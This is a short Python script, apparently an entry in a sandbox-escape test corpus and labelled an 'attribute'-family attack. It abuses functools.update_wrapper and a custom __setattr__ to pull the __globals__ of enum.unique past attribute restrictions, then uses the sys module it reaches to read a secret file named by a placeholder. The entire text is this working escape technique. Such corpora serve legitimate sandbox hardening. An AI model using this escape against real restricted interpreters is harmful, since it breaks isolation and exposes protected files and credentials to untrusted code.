# attack: functools.update_wrapper reads any attribute by name with the true getattr, and hands it to a __setattr__ of the script's
# family: attribute
import enum
import functools
got = []
class Catcher:
    def __setattr__(self, name, value):
        got.append(value)
functools.update_wrapper(Catcher(), enum.unique, assigned=["__globals__"], updated=())
print("REACHED", got[0]["sys"])
print(got[0]["sys"].modules["io"].open("$SECRET_FILE").read())
